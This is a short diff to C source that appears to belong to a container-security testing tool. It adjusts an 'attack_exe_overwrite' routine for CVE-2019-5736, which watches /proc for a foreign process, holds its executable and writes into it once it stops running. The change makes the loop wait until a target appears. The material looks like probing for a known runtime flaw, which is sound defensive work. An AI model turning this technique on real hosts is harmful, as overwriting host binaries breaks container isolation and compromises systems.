@@ -87,7 +87,7 @@ static int attack_capture(int argc, char **argv)
 	return written ? 0 : error;
 }
 
-/* CVE-2019-5736: watches /proc for SECONDS for a program that is none of this image's, holds its
+/* CVE-2019-5736: watches /proc for SECONDS, and until it has met one, for a program that is none of this image's, holds its
  * file, and writes into it once it no longer runs. One byte is appended where that is permitted. */
 static int attack_exe_overwrite(int argc, char **argv)
 {
@@ -133,7 +133,8 @@ static int attack_exe_overwrite(int argc, char **argv)
 				error = tried;
 		}
 		clock_gettime(CLOCK_MONOTONIC, &now);
-	} while (now.tv_sec - begin.tv_sec + (now.tv_nsec - begin.tv_nsec) / 1e9 < seconds);
+	} while (now.tv_sec - begin.tv_sec + (now.tv_nsec - begin.tv_nsec) / 1e9 < seconds ||
+		 error == ESRCH);
 	printf("exe-overwrite: held %d\n", count);
 	return error;
 }
